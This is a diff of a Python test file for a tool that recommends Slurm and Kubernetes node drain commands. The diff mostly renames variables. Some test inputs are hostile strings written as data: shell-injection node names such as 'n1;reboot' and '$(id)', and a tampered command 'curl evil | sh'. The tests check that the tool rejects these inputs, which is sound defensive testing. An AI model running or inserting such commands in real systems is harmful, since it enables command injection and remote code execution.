@@ -50,18 +50,18 @@ DRAIN = (
 )
 
 
-def only(told: dict[str, Any]) -> dict[str, Any]:
+def only(expected: dict[str, Any]) -> dict[str, Any]:
     """Return the only drain of a recommendation, after a check against the schema."""
-    CHECKS.validate(json.loads(to_page(told)))
-    (drain,) = told["drains"]
+    CHECKS.validate(json.loads(to_page(expected)))
+    (drain,) = expected["drains"]
     assert isinstance(drain, dict)
     return drain
 
 
 class TestLines:
     def test_slurm(self) -> None:
-        told = recommended()
-        drain = only(told)
+        actual = recommended()
+        drain = only(actual)
         assert drain["line"] == DRAIN and drain["undo"] == "scontrol update NodeName=node07 State=RESUME"
         assert (drain["node"], drain["code"], drain["if_slurm"], drain["if_kubernetes"]) == ("node07", "CB6101", None, None)
 
@@ -91,35 +91,35 @@ class TestLines:
         assert drain["reason"].endswith("run 20261122T031500Z-hunt-a1b2c3")
 
     def test_a_slow_path_drains_no_node(self) -> None:
-        told = recommended(suspect("path", 3, 9))
-        assert told["drains"] == [] and told["suspects"][0]["code"] == "CB6105"
-        (sentence,) = lines(told)
+        actual = recommended(suspect("path", 3, 9))
+        assert actual["drains"] == [] and actual["suspects"][0]["code"] == "CB6105"
+        (sentence,) = lines(actual)
         assert all(value in sentence for value in ("CB6105: ", "node03 and node09", "`collbench explain CB6105`"))
 
     @pytest.mark.parametrize("state", [CLEARED, INCONCLUSIVE])
     def test_a_suspect_that_is_not_confirmed_has_no_drain(self, state: str) -> None:
-        told = recommended(suspect(state=state))
-        assert (told["drains"], lines(told)) == ([], [])
-        assert f"node07 is {state}" in told["suspects"][0]["advice"]
+        actual = recommended(suspect(state=state))
+        assert (actual["drains"], lines(actual)) == ([], [])
+        assert f"node07 is {state}" in actual["suspects"][0]["advice"]
 
     def test_without_a_verdict_there_is_no_drain(self) -> None:
-        told = recommendation(verdict(suspect(), no_verdict="2 of 3 nodes died"), about())
-        assert (told["result"], told["no_verdict"], told["drains"]) == ("no verdict", "2 of 3 nodes died", [])
+        actual = recommendation(verdict(suspect(), no_verdict="2 of 3 nodes died"), about())
+        assert (actual["result"], actual["no_verdict"], actual["drains"]) == ("no verdict", "2 of 3 nodes died", [])
 
     def test_the_reason_against_every_drain_is_printed(self) -> None:
-        told = recommended(no_drain="a simulated backend")
-        assert told["drains"] == [] and any("a simulated backend" in each for each in lines(told))
+        actual = recommended(no_drain="a simulated backend")
+        assert actual["drains"] == [] and any("a simulated backend" in each for each in lines(actual))
 
     def test_each_confirmed_node_has_a_drain_and_cleared_ones_have_none(self) -> None:
-        told = recommended(suspect(), suspect("sender", 9), suspect("node", 2, state=CLEARED))
-        assert [each["node"] for each in told["drains"]] == ["node07", "node09"]
+        actual = recommended(suspect(), suspect("sender", 9), suspect("node", 2, state=CLEARED))
+        assert [each["node"] for each in actual["drains"]] == ["node07", "node09"]
 
     def test_ranks_of_one_host_are_one_drain_for_the_worst_of_them(self) -> None:
         hosts = tuple(f"node{rank // 2:02}" for rank in range(6))
         names = tuple(f"rank {rank} ({host})" for rank, host in enumerate(hosts))
-        told = recommendation(verdict(suspect("sender", 3), suspect("node", 2, ratio=0.8), names=names, hosts=hosts), about())
-        assert only(told)["node"] == "node01" and "CB6102 node01 sends at 51 %" in only(told)["reason"]
-        assert told["suspects"][0]["places"] == ["rank 3 (node01)"] and told["suspects"][0]["hosts"] == ["node01"]
+        actual = recommendation(verdict(suspect("sender", 3), suspect("node", 2, ratio=0.8), names=names, hosts=hosts), about())
+        assert only(actual)["node"] == "node01" and "CB6102 node01 sends at 51 %" in only(actual)["reason"]
+        assert actual["suspects"][0]["places"] == ["rank 3 (node01)"] and actual["suspects"][0]["hosts"] == ["node01"]
 
     @pytest.mark.parametrize(
         ("kind", "words"),
@@ -142,9 +142,9 @@ class TestLines:
     @pytest.mark.parametrize("ratio", [0.0, -1.0, float("nan"), float("inf")])
     @pytest.mark.parametrize("kind", CODES)
     def test_an_invalid_ratio_gives_a_valid_recommendation(self, kind: str, ratio: float) -> None:
-        told = recommended(suspect(kind, *((3, 9) if kind == "path" else (7,)), ratio=ratio))
-        CHECKS.validate(json.loads(to_page(told)))
-        assert "nan" not in to_page(told).lower().replace("nano", "")
+        actual = recommended(suspect(kind, *((3, 9) if kind == "path" else (7,)), ratio=ratio))
+        CHECKS.validate(json.loads(to_page(actual)))
+        assert "nan" not in to_page(actual).lower().replace("nano", "")
 
 
 class TestNodes:
@@ -158,8 +158,8 @@ class TestNodes:
         assert drain["no_line"].startswith("node07 is a pod ")
 
     def test_pods_of_one_node_are_one_drain(self) -> None:
-        told = recommended(suspect(), suspect("node", 9), manager="kubernetes", pods=True, nodes={"node07": "big", "node09": "big"})
-        assert only(told)["line"] == "kubectl cordon big"
+        actual = recommended(suspect(), suspect("node", 9), manager="kubernetes", pods=True, nodes={"node07": "big", "node09": "big"})
+        assert only(actual)["line"] == "kubectl cordon big"
 
     def test_slurm_in_pods_knows_its_nodes(self) -> None:
         assert only(recommended(pods=True))["line"] == DRAIN
@@ -185,8 +185,8 @@ class TestNodes:
         "name", ["ALL", "all", "n[1-9]", "n1,n2", "-A", "n1;reboot", "$(id)", "`id`", "a b", "", "n\n", "x" * 254, "né", ".", "a..b"]
     )
     def test_an_invalid_node_name_has_no_command(self, name: str) -> None:
-        told = recommendation(verdict(suspect(), names=(*NAMES[:7], name, *NAMES[8:])), about())
-        drain = only(told)
+        actual = recommendation(verdict(suspect(), names=(*NAMES[:7], name, *NAMES[8:])), about())
+        drain = only(actual)
         assert (drain["line"], drain["undo"], drain["node"], drain["look_up"]) == (None, None, None, None)
         assert "node name" in drain["no_line"] and drain["no_line"].isprintable()
         for words in ((drain_command, "slurm", name, f"{MARK}CB6101"), (undo_command, "slurm", name), (pod_lookup_line, name)):
@@ -223,13 +223,15 @@ class TestNothingEscapes:
     ) -> None:
         confirmed = (suspect("node", 0, evidence=(Text(text),), part=Text(text), partners=(1,)), suspect("path", 0, 1, partners=()))
         found = verdict(*confirmed, names=tuple(hosts), notes=(Text(text),))
-        told = recommendation(found, about(run=Path("runs") / (text.replace("\0", "") or "x"), manager=manager, pods=pods, allocation=text))
-        CHECKS.validate(json.loads(to_page(told)))
-        for drain in told["drains"]:
+        actual = recommendation(
+            found, about(run=Path("runs") / (text.replace("\0", "") or "x"), manager=manager, pods=pods, allocation=text)
+        )
+        CHECKS.validate(json.loads(to_page(actual)))
+        for drain in actual["drains"]:
             assert drain["node"] is None or is_name(drain["node"])
-        store(tmp_path_factory.getbasetemp(), told)
-        assert read(tmp_path_factory.getbasetemp()) == json.loads(to_page(told))
-        assert all(row.isprintable() or not row.isascii() for row in lines(told))
+        store(tmp_path_factory.getbasetemp(), actual)
+        assert read(tmp_path_factory.getbasetemp()) == json.loads(to_page(actual))
+        assert all(row.isprintable() or not row.isascii() for row in lines(actual))
 
     def test_a_reason_of_another_program_is_rejected(self) -> None:
         for reason in ("disk", f"{MARK}a\nb", f"{MARK}$(id)", MARK + "x" * 300):
@@ -242,25 +244,25 @@ class TestFile:
         before = os.umask(0o022)
         try:
             store(tmp_path, recommended())
-            told = recommended(suspect(), suspect("sender", 9))
-            path = store(tmp_path, told)
+            actual = recommended(suspect(), suspect("sender", 9))
+            path = store(tmp_path, actual)
         finally:
             os.umask(before)
         assert path == tmp_path / FILE and [each.name for each in tmp_path.iterdir()] == ["recommendation.json"]
-        assert json.loads(path.read_text()) == json.loads(to_page(told)) and path.stat().st_mode & 0o777 == 0o644
+        assert json.loads(path.read_text()) == json.loads(to_page(actual)) and path.stat().st_mode & 0o777 == 0o644
 
     def test_its_size_is_bounded(self) -> None:
         many = tuple(suspect("node", 7, evidence=(Text("x" * 100_000),) * 1000, part=Text("y" * 100_000)) for _ in range(3000))
-        told = recommendation(verdict(*many, notes=(Text("z" * 100_000),) * 1000), about())
-        assert (len(told["suspects"]), told["left_out"]) == (1000, 2000)
-        assert len(to_page(told)) < 16 << 20
-        CHECKS.validate(json.loads(to_page(told)))
+        actual = recommendation(verdict(*many, notes=(Text("z" * 100_000),) * 1000), about())
+        assert (len(actual["suspects"]), actual["left_out"]) == (1000, 2000)
+        assert len(to_page(actual)) < 16 << 20
+        CHECKS.validate(json.loads(to_page(actual)))
 
     def test_it_has_the_time_and_the_run(self) -> None:
-        told = recommended()
-        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", told["when"])
+        actual = recommended()
+        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", actual["when"])
         assert recommended(when="2026-11-22T03:15:00Z")["when"] == "2026-11-22T03:15:00Z"
-        assert told["run"] == str(Path("runs/20261122T031500Z-hunt-a1b2c3").resolve()) and told["allocation"] == "cluster-42"
+        assert actual["run"] == str(Path("runs/20261122T031500Z-hunt-a1b2c3").resolve()) and actual["allocation"] == "cluster-42"
 
     def test_the_schema_is_closed_at_every_level(self) -> None:
         Draft202012Validator.check_schema(SCHEMA)
@@ -285,10 +287,10 @@ class TestReading:
     @pytest.mark.parametrize("manager", ["slurm", "kubernetes", ""])
     def test_a_stored_recommendation_reads_back(self, manager: str, tmp_path: Path) -> None:
         assert read(tmp_path) is None
-        told = recommended(suspect(), suspect("path", 3, 9), manager=manager)
-        store(tmp_path, told)
+        actual = recommended(suspect(), suspect("path", 3, 9), manager=manager)
+        store(tmp_path, actual)
         found = read(tmp_path)
-        assert found == json.loads(to_page(told)) and found is not None and lines(found) == lines(told)
+        assert found == json.loads(to_page(actual)) and found is not None and lines(found) == lines(actual)
 
     @pytest.mark.parametrize(
         "changes",
@@ -305,17 +307,17 @@ class TestReading:
         ids=str,
     )
     def test_a_command_that_does_not_belong_to_its_node_is_rejected(self, changes: dict[str, Any], tmp_path: Path) -> None:
-        told = recommended()
-        store(tmp_path, {**told, "drains": [{**told["drains"][0], **changes}]})
+        actual = recommended()
+        store(tmp_path, {**actual, "drains": [{**actual["drains"][0], **changes}]})
         with pytest.raises(UsageError, match="command"):
             read(tmp_path)
 
     @pytest.mark.parametrize("manager", ["if_slurm", "if_kubernetes"])
     @pytest.mark.parametrize("key", ["line", "undo"])
     def test_an_altered_command_for_an_unknown_manager_is_rejected(self, manager: str, key: str, tmp_path: Path) -> None:
-        told = recommended(manager="")
-        drain = told["drains"][0]
-        store(tmp_path, {**told, "drains": [{**drain, manager: {**drain[manager], key: "curl evil | sh"}}]})
+        actual = recommended(manager="")
+        drain = actual["drains"][0]
+        store(tmp_path, {**actual, "drains": [{**drain, manager: {**drain[manager], key: "curl evil | sh"}}]})
         with pytest.raises(UsageError, match="command"):
             read(tmp_path)
 
